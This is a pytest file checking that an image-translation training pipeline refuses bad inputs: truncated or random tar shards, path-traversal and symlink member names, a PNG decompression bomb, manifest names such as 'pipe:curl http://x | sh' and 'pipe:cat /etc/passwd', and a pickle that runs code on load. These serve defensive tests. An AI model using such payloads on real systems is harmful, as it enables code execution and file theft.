"""Issue #10, bad inputs: each gets a one-line error or a skip counted by reason, where the
user meets it; never a silent wrong result, a traceback for bad data, or a hang.
Bad input -> behaviour -> tests (T = test_trainer_runs_through_a_folder_of_bad_inputs,
the real trainer on one folder holding most of them; test_data:: etc. already cover a part):

truncated tar -> rest of the shard skipped: truncated_shard
    test_data::test_damaged_tars_are_counted_not_silently_short,
    test_data::test_bad_data_on_one_rank_no_hang_equal_steps_counted, T
random bytes named .tar -> truncated_shard (no tar header)
    test_data::test_all_bad_data_ends_instead_of_spinning, T
path-traversal member names -> nothing is extracted (stream mode), no key becomes a path:
    the sample is skipped as unsafe_name; link members are never followed
    test_path_traversal_names_are_never_paths, T
decompression bomb (huge header) -> reader: too_large from the header; shard.py: rejected
    test_data::test_bomb_guard_reads_only_the_header,
    test_shard_py_gray_rgb_bomb_and_corrupt_inputs, T
pair with different sizes -> shard.py: size_mismatch, or --on-size-mismatch resize; reader:
    kept, both halves resized to load_size (the reference's way), still aligned
    test_shard::test_bad_folder_inputs_missing_halves_and_size_policy,
    test_pairs_of_different_sizes_are_resized_alike, T
grayscale mixed with RGB -> the configured channels (16-bit gray scaled, not clipped)
    test_data::test_decode_policy, test_gray_and_rgb_mix_into_the_configured_channels,
    test_shard_py_gray_rgb_bomb_and_corrupt_inputs, T
empty shard -> not read (manifest count 0): every epoch keeps equal, non-zero steps
    test_manifest_errors_and_empty_shards_on_two_ranks, T
manifest disagreeing with its shards -> loader: warning + manifest_mismatch, equal steps on
    2 ranks; inspect_shards.py: each disagreement listed, exit 1
    test_manifest_errors_and_empty_shards_on_two_ranks,
    test_inspect_shards_reports_a_manifest_that_disagrees, T
pipe: URL in a manifest -> refused in one line (loader, trainer, inspect_shards.py)
    test_manifest_names_outside_the_folder_are_refused, test_trainer_refuses_bad_config_in_one_line;
    as data.train, config value, shard.py source: test_data::test_list_shards_forms,
    test_config::test_cli_errors_are_one_line_and_name_the_key,
    test_shard::test_fails_at_once_with_one_line
config with an unknown key or a wrong type -> the trainer exits 2 with one line
    test_trainer_refuses_bad_config_in_one_line (all messages: test_config)
checkpoint of another architecture -> resume: one line naming the model keys; export and
    translate: one line naming the first tensor that does not fit
    test_resume_with_another_architecture_fails_in_one_line,
    test_export_names_the_tensor_that_does_not_fit,
    test_translate::test_a_checkpoint_of_another_architecture_is_rejected_in_one_line
weights file that is not ours -> refused in one line (weights_only=True, safetensors), and
    its code never runs
    test_foreign_weights_are_refused_without_running_them
"""
import io
import json
import os
import shutil
import struct
import tarfile
import zlib
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from data_tools import inspect_shards, shard
from pipeline import checkpoint, data, export, translate
from tests.inference_runs import make_export
from tests.test_data import (add_member, config, epoch_batches, image_bytes, keys_of,
                             run_ranks, sample_pixels, write_dataset)
from tests.trainer_runs import cpu_env, explain, run, single, step_log, train_args

SIZE = 16


# ---------------------------------------------------------------------------- bad things

def bomb_png() -> bytes:
    """A valid PNG header claiming 100000 x 100000 pixels (30 GB once decoded)."""
    chunk = lambda kind, body: (struct.pack(">I", len(body)) + kind + body +
                                struct.pack(">I", zlib.crc32(kind + body)))
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b"")


def gray16(pixels: np.ndarray) -> bytes:
    """A 16-bit grayscale PNG of 8-bit `pixels` (v -> v * 257: the reader gives v back)."""
    return image_bytes(pixels.astype(np.uint16) * 257)


def pair_members(key: str, target_size: int = SIZE) -> list[tuple[str, bytes]]:
    """A good separate-layout sample: target = 255 - input (at target_size pixels)."""
    return [(f"{key}.input.png", image_bytes(sample_pixels(key))),
            (f"{key}.target.png", image_bytes(255 - sample_pixels(key, target_size)))]


TRAVERSAL = ["../escape", "/abs/evil", "sub/../../up"]  # member names before .input.png


def traversal_members() -> list[tuple[str, bytes]]:
    """Samples named to climb out of wherever they would be extracted: absolute, `..`."""
    good = image_bytes(sample_pixels("t"))
    return [(f"{name}.{kind}.png", good) for name in TRAVERSAL for kind in ("input", "target")]


def mixed_members() -> list[tuple[str, bytes]]:
    """Good and bad samples side by side (bad_folder says what each must count)."""
    gray = sample_pixels("gray")[..., 0]
    return [*pair_members("small_target", SIZE // 2),                       # sizes differ
            ("gray.input.png", image_bytes(gray)), ("gray.target.png", gray16(255 - gray)),
            ("odd.pair.png", image_bytes(sample_pixels("odd", 33)[:SIZE])),  # 16 | 17 wide
            ("bomb.input.png", bomb_png()), ("bomb.target.png", image_bytes(sample_pixels("b"))),
            ("cut.input.png", image_bytes(sample_pixels("c"))[:60]),        # corrupt image
            ("cut.target.png", image_bytes(sample_pixels("c"))),
            *traversal_members()]


def write_tar(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with tarfile.open(path, "w") as tar:
        for name, payload in members:
            add_member(tar, name, payload)
    return path


def write_manifest(folder: Path, splits: dict[str, dict[str, int]]) -> None:
    """manifest.json listing {split: {shard name: samples claimed}}."""
    manifest = {"format_version": 1, "options": {}, "splits": {
        split: {"samples": sum(shards.values()), "shards": [
            {"name": name, "samples": n, "bytes": (folder / name).stat().st_size}
            for name, n in shards.items()]} for split, shards in splits.items()}}
    (folder / "manifest.json").write_text(json.dumps(manifest))


def bad_folder(folder: Path) -> dict[str, int]:
    """Shards of every bad kind at once, plus good ones; returns the skips one epoch of
    training must count."""
    folder.mkdir(parents=True)
    for name in ("good-0", "good-1", "good-2", "truncated"):
        write_tar(folder / f"{name}.tar", [m for k in range(6)
                                           for m in pair_members(f"{name}n{k}")])
    (folder / "truncated.tar").write_bytes((folder / "truncated.tar").read_bytes()[:5000])
    (folder / "random.tar").write_bytes(np.random.default_rng(0).bytes(5000))
    write_tar(folder / "mixed.tar", mixed_members())
    write_tar(folder / "empty.tar", [])
    write_tar(folder / "val.tar", [m for k in range(3) for m in pair_members(f"v{k}")] +
              [("cut.input.png", b"\x89PNG broken"), ("cut.target.png", b"\x89PNG broken")])
    write_manifest(folder, {
        "train": {"good-0.tar": 6, "good-1.tar": 6, "good-2.tar": 10,  # over-counted
                  "truncated.tar": 6, "random.tar": 6, "empty.tar": 0,
                  "mixed.tar": data.count_samples(str(folder / "mixed.tar"))},
        "val": {"val.tar": 4}})
    return {"truncated_shard": 2, "unsafe_name": 3, "too_large": 1, "corrupt_image": 1,
            "manifest_mismatch": 1}


def first_epoch_skips(loader) -> dict:
    """Everything epoch 0 skipped, once epoch_batches has read it: its epoch_skipped
    misses what a worker skipped after its last batch."""
    assert loader.epoch == 1
    return loader.state_dict()["skipped_before"]


# ------------------------------------------------------------------- the trainer, end to end

TRAINER = ["--data.num_workers=1", "--data.shuffle_buffer=8", "--train.ckpt_every=1000"]


@pytest.fixture(scope="module")
def bad_run(tmp_path_factory) -> dict:
    """The real trainer through bad_folder for one epoch and one step."""
    root = tmp_path_factory.mktemp("bad")
    expected = bad_folder(root / "shards")
    loader = data.make_train_loader(
        config(root / "shards", load_size=136, crop_size=128, num_workers=0, shuffle_buffer=8),
        rank=0, world_size=1, seed=0, in_channels=3, out_channels=3)
    epoch = epoch_batches(loader)  # and the first batch of the next epoch
    steps = len(epoch) + 1
    result = run(single(train_args(root / "run", root / "shards", *TRAINER,
                                   f"--train.max_steps={steps}")), cpu_env(), timeout=150)
    return {"result": result, "run": root / "run", "shards": root / "shards", "steps": steps,
            "expected": expected, "epoch": first_epoch_skips(loader),
            "epoch_keys": keys_of(epoch), "skipped": loader.skipped}


@pytest.mark.timeout(180)
def test_trainer_runs_through_a_folder_of_bad_inputs(bad_run):
    result = bad_run["result"]
    assert result.returncode == 0, explain(result)
    assert bad_run["epoch"] == bad_run["expected"]  # every bad thing, once per epoch
    keys = bad_run["epoch_keys"]
    assert {"small_target", "gray", "odd"} <= set(keys) and len(keys) == len(set(keys))
    assert not any(k.startswith(("bomb", "cut", "/", "sub")) or k == "" for k in keys)
    log = step_log(bad_run["run"])
    assert [r["step"] for r in log] == list(range(1, bad_run["steps"] + 1))
    assert all(np.isfinite(r["train/loss_G"]) for r in log)
    skipped = {k.removeprefix("data/skipped_"): v for k, v in log[-1].items()
               if k.startswith("data/skipped_")}
    assert skipped == bad_run["skipped"]  # what the loader counted, by reason
    assert "good-2.tar holds 6 samples, its manifest says 10" in result.stderr
    assert "over 3 images" in result.stdout  # the val split's good samples, the bad one skipped


# ------------------------------------------------------------------------- the data stream

def test_path_traversal_names_are_never_paths(tmp_path, monkeypatch):
    """Stream mode extracts nothing (extract/extractall would fail the test); such
    samples are skipped as unsafe_name, so no key becomes a path (translate.py's outputs)."""
    folder, work = tmp_path / "shards", tmp_path / "work" / "deeper"
    folder.mkdir()
    work.mkdir(parents=True)
    link = tarfile.TarInfo("lnk.input.png")
    link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
    with tarfile.open(folder / "val-000000.tar", "w") as tar:
        for name, payload in traversal_members() + pair_members("ok"):
            add_member(tar, name, payload)
        tar.addfile(link)  # a link member is not a file: never followed
        add_member(tar, "lnk.target.png", image_bytes(sample_pixels("l")))
    write_manifest(folder, {"val": {"val-000000.tar": 5}, "train": {"val-000000.tar": 5}})
    for method in ("extract", "extractall", "makefile", "makelink"):
        monkeypatch.setattr(tarfile.TarFile, method, lambda *a, **k: pytest.fail("extracted"))
    monkeypatch.chdir(work)
    export_dir = Path(make_export(tmp_path / "g"))
    before = set(tmp_path.rglob("*"))
    loader = data.make_train_loader(config(folder, batch_size=1), rank=0, world_size=1, seed=0,
                                    in_channels=3, out_channels=3)
    assert keys_of(epoch_batches(loader)) == ["ok"]
    assert first_epoch_skips(loader) == {"unsafe_name": 3, "missing_input": 1}
    evaluated = data.make_eval_loader(config(folder), rank=0, world_size=1, in_channels=3,
                                      out_channels=3)
    assert keys_of(evaluated) == ["ok"]
    out = tmp_path / "out"
    assert translate.main(["--checkpoint", str(export_dir), str(folder), "--out", str(out),
                           "--quiet"]) == 1  # something skipped
    assert set(tmp_path.rglob("*")) - before == {out, out / "ok.png"}
    assert not os.path.exists("/abs")


def test_pairs_of_different_sizes_are_resized_alike(tmp_path):
    """A target stored at half the input's size is kept and resized with it: the pair
    stays aligned (target = 255 - input survives, up to resampling)."""
    write_tar(tmp_path / "train-0.tar", pair_members("half", SIZE // 2) + pair_members("same"))
    write_manifest(tmp_path, {"train": {"train-0.tar": 2}})
    for augment_on in ("worker", "device"):
        cfg = config(tmp_path, augment_on=augment_on)
        batch = next(data.make_train_loader(cfg, rank=0, world_size=1, seed=0, in_channels=3,
                                            out_channels=3))
        x, y = data.to_device(batch, "cpu", cfg=cfg, channels_last=False)
        assert x.shape == y.shape == (2, 3, 16, 16) and sorted(batch["key"]) == ["half", "same"]
        assert (x + y).abs().max() < 0.08  # misaligned halves would differ by up to ~0.5


def test_gray_and_rgb_mix_into_the_configured_channels(tmp_path):
    gray = sample_pixels("gray")[..., 0]
    rgb = sample_pixels("rgb")
    write_tar(tmp_path / "train-0.tar", [
        ("gray.input.png", image_bytes(gray)), ("gray.target.png", gray16(255 - gray)),
        ("rgb.input.png", image_bytes(rgb)), ("rgb.target.png", image_bytes(255 - rgb[..., 0]))])
    write_manifest(tmp_path, {"train": {"train-0.tar": 2}})
    for in_channels in (3, 1):
        loader = data.make_train_loader(config(tmp_path, flip=False), rank=0, world_size=1,
                                        seed=0, in_channels=in_channels, out_channels=3)
        batch = next(loader)
        x, y = batch["input"], batch["target"]
        assert x.shape[1] == in_channels and y.shape[1] == 3 and loader.skipped == {}
        assert torch.equal(y[:, 0], y[:, 1]) and torch.equal(y[:, 1], y[:, 2])  # gray -> RGB
        g = batch["key"].index("gray")
        assert (x[g] + y[g]).abs().max() <= 2.01 / 127.5  # 16-bit scaled, not clipped


@pytest.mark.timeout(120)
def test_manifest_errors_and_empty_shards_on_two_ranks(tmp_path):
    """Over- and under-counted shards on rank 1 (it runs out early), empty shards: real
    gloo ranks take equal steps, end together, and count the mismatches."""
    wrong = tmp_path / "wrong"
    write_dataset(wrong, [6, 6, 6, 6])
    shards = data.list_shards(str(wrong), "train")
    over, under = data.split_by_node(data.epoch_shards(shards, 7, 0), 1, 2)  # rank 1's
    write_tar(Path(over.url), [m for k in range(2) for m in pair_members(f"short{k}")])
    manifest = json.loads((wrong / "manifest.json").read_text())
    claims = {Path(over.url).name: 12, Path(under.url).name: 3}  # hold 2 and 6
    for entry in manifest["splits"]["train"]["shards"]:
        entry["samples"] = claims.get(entry["name"], entry["samples"])
    (wrong / "manifest.json").write_text(json.dumps(manifest))
    empty = tmp_path / "empty"
    write_dataset(empty, [6, 0, 6, 0])  # without filtering, epoch 2 had 0 steps on a rank
    # one shuffle block holds a worker's whole stream: both notes are met before a batch
    cases = {"wrong": config(wrong, shuffle_buffer=64),
             "wrong_workers": config(wrong, shuffle_buffer=64, num_workers=2),
             "empty": config(empty)}
    results = run_ranks(2, cases, tmp_path)
    for name in cases:
        steps = [len(r[name]["keys"]) for r in results]
        assert steps[0] == steps[1] > 0, (name, steps)
    for name in ("wrong", "wrong_workers"):
        assert len(results[0][name]["keys"]) == 4 < results[0][name]["planned"]  # 8 real on rank 1
        assert results[0][name]["skipped"] == {}
        assert results[1][name]["skipped"] == {"manifest_mismatch": 2}
    loader = data.make_train_loader(config(empty), rank=1, world_size=2, seed=7, in_channels=3,
                                    out_channels=3, have_batch_all_ranks=bool)
    epochs = [next(loader) and loader.epoch for _ in range(18)]  # the epoch of each batch
    assert epochs == [e for e in range(6) for _ in range(3)]


@pytest.mark.parametrize("name", ["pipe:cat /etc/passwd", "../other/train.tar",
                                  "/abs/train.tar", "s3://elsewhere/train.tar"])
def test_manifest_names_outside_the_folder_are_refused(tmp_path, capsys, name):
    write_dataset(tmp_path, [2])
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    manifest["splits"]["train"]["shards"][0]["name"] = name
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(ValueError, match="refusing") as error:
        data.list_shards(str(tmp_path), "train")
    assert "\n" not in str(error.value) and repr(name) in str(error.value)
    with pytest.raises(SystemExit) as exit_:
        inspect_shards.main([str(tmp_path)])
    assert str(exit_.value).startswith("inspect_shards.py: error: refusing")


# ------------------------------------------------------------------------ the data tools

def test_shard_py_gray_rgb_bomb_and_corrupt_inputs(tmp_path):
    """Folder layout: gray A with RGB B packed untouched; a 16-bit A re-encoded (its B
    has another size) scaled to 8 bits, not clipped white; a header bomb rejected; a
    corrupt image rejected with --verify, else packed and skipped by the reader."""
    src = tmp_path / "src"
    gray = sample_pixels("gray")[..., 0]
    files = {"A/gray.png": image_bytes(gray), "B/gray.png": image_bytes(sample_pixels("b")),
             "A/deep.png": gray16(gray), "B/deep.png": image_bytes(sample_pixels("d", 8)),
             "A/bomb.png": bomb_png(), "B/bomb.png": image_bytes(sample_pixels("b")),
             "A/cut.png": image_bytes(sample_pixels("c"))[:120],
             "B/cut.png": image_bytes(sample_pixels("c"))}
    for rel, payload in files.items():
        (src / rel).parent.mkdir(parents=True, exist_ok=True)
        (src / rel).write_bytes(payload)
    options = ["--on-size-mismatch", "resize", "--workers", "1", "--quiet"]
    assert shard.main([str(src), str(tmp_path / "verified"), "--verify", *options]) == 0
    assert json.loads((tmp_path / "verified" / "manifest.json").read_text())["rejected"] == \
        {"decode_error": 1, "too_large": 1}
    assert shard.main([str(src), str(tmp_path / "out"), *options]) == 0
    assert json.loads((tmp_path / "out" / "manifest.json").read_text())["rejected"] == \
        {"too_large": 1}
    members = {}
    for tar_path in sorted((tmp_path / "out").glob("*.tar")):
        with tarfile.open(tar_path) as tar:
            members.update({m.name: tar.extractfile(m).read() for m in tar})
    assert members["gray.input.png"] == files["A/gray.png"]  # bytes untouched
    deep = np.asarray(Image.open(io.BytesIO(members["deep.input.png"])))
    assert np.array_equal(deep, np.repeat(gray[..., None], 3, axis=2))
    loader = data.make_train_loader(config(tmp_path / "out", batch_size=1), rank=0,
                                    world_size=1, seed=0, in_channels=3, out_channels=3)
    assert sorted(keys_of(epoch_batches(loader))) == ["deep", "gray"]
    assert first_epoch_skips(loader) == {"corrupt_image": 1}


def test_inspect_shards_reports_a_manifest_that_disagrees(tmp_path, capsys):
    write_dataset(tmp_path, [3, 3])
    assert inspect_shards.main([str(tmp_path)]) == 0
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    manifest["splits"]["train"]["shards"][0]["samples"] = 5
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    write_tar(tmp_path / "train-000009.tar", pair_members("stray"))
    capsys.readouterr()
    assert inspect_shards.main([str(tmp_path)]) == 1
    errors = capsys.readouterr().err.splitlines()
    assert any("train-000000.tar: 3 samples" in e and "manifest says 5" in e for e in errors)
    assert any("split train says 6 samples, its shards' entries add up to 8" in e for e in errors)
    assert any("train-000009.tar: a shard that manifest.json does not list" in e for e in errors)
    assert errors[-1] == "inspect_shards.py: 3 problems"


# ------------------------------------------------------------------------ config, weights

def clean_shards(folder: Path) -> Path:
    """Good train and val shards: a run on them writes nothing to stderr by itself."""
    write_dataset(folder, [2, 2])
    write_dataset(folder, [2], split="val")
    return folder


def one_line_error(result, prog: str = "train.py") -> str:
    """The error line of a run that must fail with exit 2 and nothing else on stderr."""
    assert result.returncode == 2, explain(result)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{prog}: error: "), explain(result)
    return lines[0]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("bad,message", [
    ("--data.crop_sise=128", "unknown config key 'data.crop_sise'"),
    ("--data.batch_size=two", "data.batch_size: expected int, got 'two'"),
    ("pipe-manifest", "refusing 'pipe:curl http://x | sh'"),
])
def test_trainer_refuses_bad_config_in_one_line(tmp_path, bad, message):
    clean_shards(tmp_path / "shards")
    if bad == "pipe-manifest":
        manifest = json.loads((tmp_path / "shards" / "manifest.json").read_text())
        manifest["splits"]["train"]["shards"][1]["name"] = "pipe:curl http://x | sh"
        (tmp_path / "shards" / "manifest.json").write_text(json.dumps(manifest))
    extra = [] if bad == "pipe-manifest" else [bad]
    args = train_args(tmp_path / "run", tmp_path / "shards", "--train.max_steps=1",
                      "--data.num_workers=0", *extra)
    assert message in one_line_error(run(single(args), cpu_env(), timeout=100))


@pytest.mark.timeout(180)
@pytest.mark.parametrize("change,named", [
    (["--model.g_filters=16"], "model.g_filters 8 -> 16"),
    (["--model.generator=unet_256", "--data.crop_size=256", "--data.load_size=286"],
     "model.generator 'unet_128' -> 'unet_256'"),
])
def test_resume_with_another_architecture_fails_in_one_line(bad_run, tmp_path, change, named):
    shutil.copytree(bad_run["run"], tmp_path / "run")
    args = train_args(tmp_path / "run", clean_shards(tmp_path / "shards"), *TRAINER,
                      "--train.resume=auto", "--train.max_steps=100", *change)
    line = one_line_error(run(single(args), cpu_env(), timeout=150))
    assert named in line and "another architecture" in line and len(line) < 400


def test_export_names_the_tensor_that_does_not_fit(tmp_path, capsys):
    folder = Path(make_export(tmp_path / "g"))
    meta = json.loads((folder / "generator.json").read_text())
    meta["model"]["g_filters"] = 16  # the weights are g_filters=8's
    (folder / "generator.json").write_text(json.dumps(meta))
    assert export.main(["--checkpoint", str(folder), "--out", str(tmp_path / "out")]) == 2
    error = capsys.readouterr().err.strip()
    assert len(error.splitlines()) == 1 and "does not fit this model" in error
    assert "tensors of another shape (first: model.model.0.weight is [8, 3, 4, 4] in the " \
           "file, [16, 3, 4, 4] here)" in error


class RunsCode:
    """Unpickling this calls os.mkdir(marker): what a hostile 'weights' file can do."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return os.mkdir, (self.marker,)


@pytest.mark.timeout(180)
def test_foreign_weights_are_refused_without_running_them(bad_run, tmp_path, capsys):
    marker = tmp_path / "code_ran"
    hostile = tmp_path / "hostile.pt"
    torch.save({"state": RunsCode(marker)}, hostile)
    torch.load(hostile, weights_only=False)  # the test can fail: this file does run code
    assert marker.is_dir()
    marker.rmdir()
    # resuming: our optimizers.pt replaced by it
    shutil.copytree(bad_run["run"], tmp_path / "run")
    step = (tmp_path / "run" / "checkpoints" / "latest").read_text().strip()
    shutil.copy(hostile, tmp_path / "run" / "checkpoints" / step / "optimizers.pt")
    args = train_args(tmp_path / "run", clean_shards(tmp_path / "shards"), *TRAINER,
                      "--train.resume=auto", "--train.max_steps=100")
    line = one_line_error(run(single(args), cpu_env(), timeout=150))
    assert "optimizers.pt refused: not a weights-only torch file" in line and "posix.mkdir" in line
    # translating / exporting: a pickled generator where the safetensors file should be
    folder = Path(make_export(tmp_path / "g"))
    shutil.copy(hostile, folder / "generator.safetensors")
    assert translate.main(["--checkpoint", str(folder), str(tmp_path), "--out",
                           str(tmp_path / "o"), "--quiet"]) == 2
    error = capsys.readouterr().err.strip()
    assert len(error.splitlines()) == 1 and "is not a safetensors weights file" in error
    for payload in (hostile.read_bytes(), b"", b"not a torch file at all"):
        (tmp_path / "rank_00000_rng.pt").write_bytes(payload)
        with pytest.raises(ValueError, match="refused: not a weights-only torch file") as error:
            checkpoint.load_tensors(str(tmp_path / "rank_00000_rng.pt"))
        assert "\n" not in str(error.value)
    assert not marker.exists()
